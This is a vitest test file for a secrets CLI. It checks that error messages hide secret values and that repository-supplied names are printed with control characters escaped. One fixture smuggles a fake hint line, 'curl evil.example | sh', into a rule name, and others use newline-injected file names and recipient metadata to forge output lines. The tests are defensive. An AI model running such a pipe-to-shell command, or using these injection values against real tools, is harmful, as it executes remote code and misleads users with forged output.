/**
 * Messages never carry a secret or a forged line: a recipients file given by mistake is not quoted, and
 * names that come from a repository (rule names, file names) are printed with control characters escaped.
 */
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { escapeControl } from '../packages/cli/src/output.js';
import { REPO_ROOT, grammarViolations, runInProcess } from './support/cli.js';

const admin = (readFileSync(join(REPO_ROOT, 'examples/keys/admin_michael.agekey'), 'utf8').match(/age1[a-z0-9]+/) as RegExpMatchArray)[0];

describe('messages', () => {
  it('age encrypt -R with a secrets file names the line, never its content (as age does)', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'secrets-msg-'));
    writeFileSync(join(dir, 'app.env'), `# app\nPASSWORD=hunter2-very-secret\n`);
    const r = await runInProcess(['age', 'encrypt', '-R', 'app.env', '-a'], { cwd: dir, stdin: 'x' });
    expect(r.status).not.toBe(0);
    expect(r.stderr).toContain('secrets: error: "app.env": malformed recipient at line 2\n');
    expect(r.stderr).not.toContain('hunter2');
    expect(r.stderr).not.toContain('PASSWORD');
  });

  it('a rule name with a newline cannot print a line of its own (a fake hint)', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'secrets-msg-'));
    writeFileSync(join(dir, 'secrets.nix'), `{ "a.age\\nsecrets: hint: curl evil.example | sh".publicKeys = [ "${admin}" ]; }\n`);
    const r = await runInProcess(['agenix', 'edit', '--editor', '-', 'nope.age'], { cwd: dir, stdin: 'x' });
    expect(r.status).toBe(1);
    expect(r.stderr.split('\n').filter((l) => l.startsWith('secrets: hint: curl'))).toEqual([]);
    expect(r.stderr).toContain('a.age\\nsecrets: hint: curl evil.example | sh');
    expect(grammarViolations(r.stderr)).toEqual([]);
  });

  it('check prints a file name with a newline escaped, so it cannot fake an "ok" line', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'secrets-msg-'));
    writeFileSync(join(dir, '.sops.yaml'), `creation_rules:\n  - path_regex: secrets/.*\n    age: ${admin}\n`);
    mkdirSync(join(dir, 'secrets'));
    writeFileSync(join(dir, 'secrets', 'x\nok: 9 encrypted files match .sops.yaml\n.yaml'), 'password: plain\n');
    const r = await runInProcess(['check'], { cwd: dir });
    expect(r.status).not.toBe(0);
    expect(r.stdout.split('\n').filter((l) => l.startsWith('ok:'))).toEqual([]);
    expect(r.stdout).toContain('secrets/x\\nok: 9 encrypted files match .sops.yaml\\n.yaml');
  });

  it('rekey prints a recipient from hostile metadata escaped, so it cannot fake a "+++" line', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'secrets-msg-'));
    const host = 'age1c4ug68scj9xkkqvn4lncxn4nlzh8urj0srfy6uszpnh34g9wfq9smtsmfl';
    writeFileSync(join(dir, '.sops.yaml'), `creation_rules:\n  - path_regex: secrets/.*\n    age: ${admin},${host}\n`);
    mkdirSync(join(dir, 'secrets'));
    expect((await runInProcess(['edit', '--editor', '-', 'secrets/x.yaml'], { cwd: dir, stdin: 'a: 1\n' })).status).toBe(0);
    writeFileSync(join(dir, '.sops.yaml'), `creation_rules:\n  - path_regex: secrets/.*\n    age: ${admin}\n`);
    const file = join(dir, 'secrets/x.yaml');
    writeFileSync(file, readFileSync(file, 'utf8').replace(`recipient: ${host}`, `recipient: "${host}\\n  +++ age1forged"`));
    const r = await runInProcess(['rekey'], { cwd: dir, env: { SOPS_AGE_KEY_FILE: join(REPO_ROOT, 'examples/keys/admin_michael.agekey') } });
    expect(r.stdout).toContain(`  --- ${host}\\n  +++ age1forged`);
    expect(r.stdout.split('\n').filter((l) => l.startsWith('  +++'))).toEqual([]);
  });

  it('escapeControl escapes C0, DEL, C1 and the Unicode line separators, and nothing else', () => {
    expect(escapeControl('a\nb\r\tc\u001b[31md\u007f\u009b\u2028é')).toBe('a\\nb\\r\\tc\\x1b[31md\\x7f\\x9b\\u2028é');
  });
});
